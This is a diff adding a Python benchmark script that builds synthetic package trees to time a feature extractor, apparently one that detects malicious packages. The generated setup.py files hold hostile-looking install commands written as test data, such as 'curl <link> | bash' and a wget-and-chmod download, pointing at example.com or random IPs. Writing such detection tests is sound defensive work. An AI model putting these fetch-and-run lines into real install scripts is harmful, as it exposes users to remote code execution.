@@ -0,0 +1,278 @@
+#!/usr/bin/env python3
+# Benchmark.py
+# Measures feature extraction throughput on generated package trees of several sizes, so the
+# speed of FeatureExtraction.py can be compared between commits. Every run is saved as JSON
+# in results_dir; set baseline to an earlier result file to print how this run compares.
+
+import asyncio
+import base64
+import datetime
+import json
+import os
+import platform
+import random
+import shutil
+import string
+import subprocess
+import time
+
+from FeatureExtraction import (PackageProfile, analyze_file, build_token_matcher, clear_memos,
+                               line_tokens, record_setup_info_to_csv)
+
+# Contents of one generated package
+DEFAULT_SPEC = {
+    "packages": 20,
+    "py_files": 20,  # Python modules
+    "py_lines": 200,  # Lines per module
+    "setup_files": 2,  # setup.py and __init__.py files, with install commands
+    "binary_files": 2,  # Shared objects and PNG images
+    "binary_bytes": 64 * 1024,
+    "js_blobs": 1,  # Minified JavaScript bundles on a single line
+    "js_bytes": 256 * 1024,
+    "base64_strings": 10,  # Long base64 strings per module
+    "links": 10,  # URLs and IP addresses per module
+}
+
+# Changes to DEFAULT_SPEC per scale
+SCALES = {
+    "small": {"packages": 10, "py_files": 5},
+    "medium": {},
+    "large": {"packages": 50, "py_files": 50, "js_blobs": 2, "js_bytes": 2 * 1024 * 1024},
+}
+
+MB = 1024 * 1024
+
+def _name(rng):
+    if rng.random() < 0.1:
+        return rng.choice(string.ascii_lowercase) * rng.randint(2, 6)  # Homogeneous identifier
+    return rng.choice(string.ascii_lowercase + "_") + ''.join(
+        rng.choices(string.ascii_lowercase + string.digits + "_", k=rng.randint(2, 12)))
+
+def _link(rng):
+    if rng.random() < 0.5:
+        return f"https://{_name(rng)}.example.com/{_name(rng)}?id={rng.randint(1, 9999)}"
+    return '.'.join(str(rng.randint(1, 254)) for _ in range(4))
+
+def _base64(rng):
+    return base64.b64encode(rng.randbytes(rng.randint(24, 600))).decode('ascii')
+
+def python_module(rng, spec):
+    """Returns the source of a generated Python module with strings, links and base64 blobs."""
+    lines = [f"import {_name(rng)}", f"from {_name(rng)} import {_name(rng)}", ""]
+    specials = ([f'{_name(rng)} = "{_base64(rng)}"' for _ in range(spec["base64_strings"])]
+                + [f'{_name(rng)} = "{_link(rng)}"' for _ in range(spec["links"])])
+    while len(lines) < spec["py_lines"]:
+        kind = rng.random()
+        if specials and kind < 0.1:
+            lines.append(specials.pop())
+        elif kind < 0.3:
+            lines.append(f"def {_name(rng)}({_name(rng)}, {_name(rng)}={rng.randint(0, 99)}):")
+            lines.append(f"    return {_name(rng)}[{rng.randint(0, 9)}] + {_name(rng)}")
+        elif kind < 0.6:
+            lines.append(f"{_name(rng)} = [{_name(rng)}, '{_name(rng)} {_name(rng)}', {rng.random():.4f}]")
+        elif kind < 0.8:
+            lines.append(f"    {_name(rng)}.{_name(rng)}(\"{_name(rng)}\", {_name(rng)}={_name(rng)})")
+        else:
+            lines.append(f"# {' '.join(_name(rng) for _ in range(rng.randint(3, 10)))}")
+    return '\n'.join(lines + specials) + '\n'
+
+def setup_module(rng, spec):
+    """Returns a generated setup.py or __init__.py with install-time commands."""
+    return '\n'.join([
+        "import os, subprocess",
+        "from setuptools import setup",
+        f"subprocess.run(['pip', 'install', '{_name(rng)}'])",
+        f"os.system('curl {_link(rng)} | bash')",
+        f"os.system('wget http://{_name(rng)}.example.com/x && chmod +x x')",
+        f"exec(open('{_name(rng)}.py').read())",
+        f"setup(name='{_name(rng)}', version='1.0', scripts=['bin/{_name(rng)}'],",
+        f"      entry_points={{'console_scripts': ['{_name(rng)}={_name(rng)}:main']}})",
+        python_module(rng, dict(spec, py_lines=spec["py_lines"] // 4)),
+    ])
+
+def js_blob(rng, size):
+    """Returns a minified JavaScript bundle of about `size` bytes on a single line."""
+    parts = []
+    total = 0
+    while total < size:
+        part = (f"var {_name(rng)}=function({_name(rng)},{_name(rng)}){{return {_name(rng)}+\"{_name(rng)}\""
+                f"+[{rng.randint(0, 999)},'{_link(rng)}'][{rng.randint(0, 1)}]}};")
+        parts.append(part)
+        total += len(part)
+    return ''.join(parts)
+
+def binary_file(rng, index, size):
+    """Returns the bytes of a generated shared object or PNG image."""
+    magic = b'\x7fELF' if index % 2 == 0 else b'\x89PNG\r\n\x1a\n'
+    return magic + rng.randbytes(size - len(magic))
+
+def generate_package(pkg_dir, spec, seed):
+    """Writes one generated package to `pkg_dir`. Returns its size in bytes."""
+    rng = random.Random(seed)
+    module = _name(rng)
+    files = {"setup.py": setup_module(rng, spec)}
+    for index in range(spec["setup_files"] - 1):
+        files[f"{module}/{'sub%d/' % index if index else ''}__init__.py"] = setup_module(rng, spec)
+    for index in range(spec["py_files"]):
+        files[f"{module}/{_name(rng)}_{index}.py"] = python_module(rng, spec)
+    for index in range(spec["js_blobs"]):
+        files[f"{module}/static/bundle_{index}.min.js"] = js_blob(rng, spec["js_bytes"])
+    for index in range(spec["binary_files"]):
+        files[f"{module}/lib/_native_{index}.{'so' if index % 2 == 0 else 'png'}"] = \
+            binary_file(rng, index, spec["binary_bytes"])
+
+    size = 0
+    for path, content in files.items():
+        fpath = os.path.join(pkg_dir, *path.split('/'))
+        os.makedirs(os.path.dirname(fpath), exist_ok=True)
+        data = content if isinstance(content, bytes) else content.encode('utf-8')
+        with open(fpath, 'wb') as f:
+            f.write(data)
+        size += len(data)
+    return size
+
+def generate_corpus(corpus_dir, spec, seed=0):
+    """
+    Writes spec["packages"] generated packages (see DEFAULT_SPEC) to `corpus_dir`, the same
+    ones for the same spec and seed. A corpus already generated there with them is reused.
+    Returns (packages, bytes).
+    """
+    marker = os.path.join(corpus_dir, "corpus.json")
+    settings = {"spec": spec, "seed": seed}
+    try:
+        with open(marker, 'r', encoding='utf-8') as f:
+            written = json.load(f)
+        if written["settings"] == settings:
+            return written["packages"], written["bytes"]
+    except (OSError, ValueError, KeyError):
+        pass
+
+    shutil.rmtree(corpus_dir, ignore_errors=True)
+    os.makedirs(corpus_dir)
+    size = 0
+    for index in range(spec["packages"]):
+        size += generate_package(os.path.join(corpus_dir, f"pkg{index:04d}-1.0"), spec, f"{seed}-{index}")
+    with open(marker, 'w', encoding='utf-8') as f:
+        json.dump({"settings": settings, "packages": spec["packages"], "bytes": size}, f)
+    return spec["packages"], size
+
+def benchmark_extractors(corpus_dir, tokens):
+    """
+    Runs every extractor (the kernels of the feature families, decoding and the plain ASCII
+    scan) over every file of the corpus, with cold memos. Returns the seconds and MB/s of each.
+    """
+    matcher = build_token_matcher(line_tokens(tokens))
+    clear_memos()
+    profile = PackageProfile()
+    for dirpath, _, subfiles in os.walk(corpus_dir):
+        for fname in subfiles:
+            if dirpath == corpus_dir:
+                continue  # The corpus marker
+            with open(os.path.join(dirpath, fname), 'rb') as f:
+                raw = f.read()
+            analyze_file(fname, raw, matcher, profile=profile)
+    results = {}
+    for name, stats in profile.extractors.items():
+        results[name] = {"seconds": stats["wall"], "cpu_seconds": stats["cpu"], "files": stats["files"],
+                         "mb_per_s": stats["bytes"] / MB / stats["wall"] if stats["wall"] else None}
+    return results
+
+def benchmark_full(corpus_dir, output_dir, token_file, packages, size, workers):
+    """
+    Times record_setup_info_to_csv over the corpus with `workers` processes, without a cache.
+    Returns the seconds, MB/s and packages/s.
+    """
+    clear_memos()
+    start = time.perf_counter()
+    asyncio.run(record_setup_info_to_csv(corpus_dir, os.path.join(output_dir, f"dataset-{workers}.csv"), token_file,
+                                         workers=workers))
+    seconds = time.perf_counter() - start
+    return {"seconds": seconds, "mb_per_s": size / MB / seconds, "packages_per_s": packages / seconds}
+
+def git_commit():
+    """Returns the commit the benchmark ran on, with a + if the tree had changes, or None outside git."""
+    cwd = os.path.dirname(os.path.abspath(__file__))
+    try:
+        head = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=cwd, capture_output=True, text=True)
+        status = subprocess.run(["git", "status", "--porcelain", "--untracked-files=no"], cwd=cwd,
+                                capture_output=True, text=True)
+    except OSError:
+        return None
+    if head.returncode != 0:
+        return None
+    return head.stdout.strip() + ("+" if status.stdout.strip() else "")
+
+def run_benchmarks(bench_dir, results_dir, token_file, scales=("small", "medium"), workers=(1,), seed=0):
+    """
+    Generates a corpus per scale in `bench_dir`, benchmarks the extractors and the full
+    extraction on it, prints the throughput and saves the run to `results_dir`.
+    Returns the path of the saved result.
+    """
+    with open(token_file, 'r', encoding='utf-8') as f:
+        tokens = json.load(f)
+    run = {"commit": git_commit(), "date": datetime.datetime.now().isoformat(timespec='seconds'),
+           "python": platform.python_version(), "platform": platform.platform(), "cpus": os.cpu_count(),
+           "seed": seed, "scales": {}}
+
+    for scale in scales:
+        spec = dict(DEFAULT_SPEC, **SCALES[scale])
+        corpus_dir = os.path.join(bench_dir, scale)
+        packages, size = generate_corpus(corpus_dir, spec, seed)
+        print(f"{scale}: {packages} packages, {size / MB:.1f} MB")
+        result = {"spec": spec, "packages": packages, "bytes": size,
+                  "extractors": benchmark_extractors(corpus_dir, tokens), "full": {}}
+        for name, stats in sorted(result["extractors"].items(), key=lambda item: item[1]["seconds"], reverse=True):
+            print(f"  {name:<20} {stats['seconds']:>8.3f} s {stats['mb_per_s'] or 0:>10.1f} MB/s")
+        output_dir = os.path.join(bench_dir, "output")
+        os.makedirs(output_dir, exist_ok=True)
+        for count in workers:
+            full = benchmark_full(corpus_dir, output_dir, token_file, packages, size, count)
+            result["full"][f"workers={count}"] = full
+            print(f"  full, {count} workers {full['seconds']:>8.3f} s {full['mb_per_s']:>10.1f} MB/s "
+                  f"{full['packages_per_s']:>8.1f} packages/s")
+        run["scales"][scale] = result
+
+    os.makedirs(results_dir, exist_ok=True)
+    result_path = os.path.join(results_dir, f"{run['date'].replace(':', '')}-{run['commit'] or 'nogit'}.json")
+    with open(result_path, 'w', encoding='utf-8') as f:
+        json.dump(run, f, indent=2)
+    print("Benchmark saved to", result_path)
+    return result_path
+
+def compare_results(baseline_path, result_path):
+    """Prints the throughput of a benchmark run next to an earlier one, for the scales both ran."""
+    with open(baseline_path, 'r', encoding='utf-8') as f:
+        baseline = json.load(f)
+    with open(result_path, 'r', encoding='utf-8') as f:
+        result = json.load(f)
+    print(f"MB/s of {result['commit']} against {baseline['commit']}")
+    for scale, new in result["scales"].items():
+        old = baseline["scales"].get(scale)
+        if old is None:
+            continue
+        if old["spec"] != new["spec"]:
+            print(f"{scale}: generated with another spec, not compared")
+            continue
+        print(scale)
+        rows = [(name, old["extractors"].get(name, {}).get("mb_per_s"), stats["mb_per_s"])
+                for name, stats in new["extractors"].items()]
+        rows += [(f"full, {name}", old["full"].get(name, {}).get("mb_per_s"), stats["mb_per_s"])
+                 for name, stats in new["full"].items()]
+        for name, before, after in rows:
+            if before and after:
+                print(f"  {name:<20} {before:>10.1f} {after:>10.1f} {after / before:>7.2f}x")
+
+if __name__ == "__main__":
+    startime = datetime.datetime.now()
+    bench_dir = r"C:\\Users\\Mikael Laptop\\Extraction\\benchmark"  # Generated corpora, reused between runs
+    results_dir = r"C:\\Users\\Mikael Laptop\\Extraction\\benchmark_results"
+    token_file = r"C:\\Users\\Mikael Laptop\\Extraction\\dangerous_tokens.json"
+    scales = ["small", "medium"]  # Keys of SCALES
+    workers = [1, os.cpu_count()]  # Worker processes for the full extraction runs
+    baseline = None  # An earlier result file in results_dir to compare this run with
+
+    result_path = run_benchmarks(bench_dir, results_dir, token_file, scales, workers)
+    if baseline is not None:
+        compare_results(baseline, result_path)
+    endtime = datetime.datetime.now()
+    print(f"Starttid: {startime} Sluttid: {endtime}")